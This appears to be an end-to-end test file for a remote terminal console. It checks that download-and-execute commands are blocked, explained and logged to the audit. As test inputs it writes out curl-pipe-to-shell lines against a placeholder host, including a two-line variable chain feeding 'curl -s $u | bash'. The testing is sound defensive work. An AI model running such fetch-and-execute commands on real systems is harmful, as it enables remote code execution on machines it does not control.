/**
 * Journey 1 — the technician: signs in with password + TOTP, opens a terminal on the endpoint
 * (step-up asked and given), runs `hostname` on the real agent's shell and sees the output, then
 * types a download-and-execute line and sees it blocked with the reason and the highlighted part;
 * the refusal is in the audit.
 *
 * Journey 2 — cross-line chain: a URL stored in a variable on one line and invoked on the next
 * is blocked and explained.
 */
import { expect, test } from '../support/fixtures';
import { tourScreenshot } from '../support/system';
import { TerminalTab } from '../support/terminal';
import { DOWNLOAD_AND_EXECUTE, scriptLogs } from '../support/lines';

test('technician: sign-in with TOTP, terminal with step-up, hostname, a download-and-execute line blocked and audited', async ({
  openConsole,
  system,
}, testInfo) => {
  const console = await openConsole('technician');
  const page = console.page;
  await console.signIn('technician', { screenshot: tourScreenshot('01-sign-in') });
  await console.keepScreenshot(testInfo, 'signed-in');

  const terminal = new TerminalTab(console);
  await console.goTo('Endpoints');
  await console.see(page.getByRole('cell', { name: 'Online' }), 'the endpoint shown online');
  await console.keepScreenshot(testInfo, 'endpoints', tourScreenshot('02-endpoints'));
  await terminal.openEndpoint(system.endpoint.hostname);

  await terminal.open('technician', { expectStepUp: true });
  await terminal.type('hostname');
  // The shell's prompt may contain the host name too: the output is a row that is exactly it.
  await terminal.waitForRow((row) => row.trim() === system.endpoint.hostname, `the output of hostname (${system.endpoint.hostname})`);
  await console.keepScreenshot(testInfo, 'hostname-output');

  const startedAt = new Date(Date.now() - 1000).toISOString();
  await terminal.type(DOWNLOAD_AND_EXECUTE);
  const panel = await terminal.refusalOf(DOWNLOAD_AND_EXECUTE);
  await expect(panel.getByLabel('Reason code download_execute')).toBeVisible();
  await expect(panel.getByText(/piped into `sh`, which runs it as code/)).toBeVisible();
  const highlighted = panel.getByLabel('Matched part of the command for download_execute').locator('mark');
  await expect(highlighted.first()).toHaveText('curl -fsSL https://updates.example.invalid/setup.sh');
  await expect(panel.getByText(/What would allow it:/)).toBeVisible();
  await terminal.waitForRow((row) => row.includes('blocked, not sent'), 'the terminal noting the line was not sent').catch(() => undefined);
  await console.keepScreenshot(testInfo, 'terminal-blocked', tourScreenshot('03-terminal-blocked'));

  // The refusal is in the audit: what support will review (journey 4).
  const events = await scriptLogs(system, { q: 'updates.example.invalid/setup.sh', reasonCode: 'download_execute', from: startedAt });
  expect(
    events.map((e) => ({ user: e.userEmail, endpoint: e.endpointId, decision: e.decision })),
    'blocked event in the audit',
  ).toContainEqual({
    user: system.accounts.technician.email,
    endpoint: system.endpoint.id,
    decision: 'block',
  });
});

test('cross-line chain: a URL stored on one line and run on the next is blocked and explained', async ({
  openConsole,
  system,
}, testInfo) => {
  const console = await openConsole('technician');
  const terminal = new TerminalTab(console);
  await console.ensureSignedIn('technician');
  await terminal.openEndpoint(system.endpoint.hostname);
  await terminal.open('technician');

  await terminal.type('u=https://updates.example.invalid/stage2.sh');
  // The first line alone is harmless and is sent: the shell gets it (no refusal appears).
  await terminal.type('echo stored-$((6*7))');
  await terminal.waitForRow((row) => row.trim() === 'stored-42', 'the shell running the lines before the chain');
  await expect(terminal.refusal).toHaveCount(0);

  const chained = 'curl -s $u | bash';
  await terminal.type(chained);
  const panel = await terminal.refusalOf(chained);
  await expect(panel.getByLabel('Reason code download_execute')).toBeVisible();
  await expect(panel.getByLabel('Matched part of the command for download_execute').locator('mark').first()).toBeVisible();
  await console.keepScreenshot(testInfo, 'cross-line-chain-blocked');
});
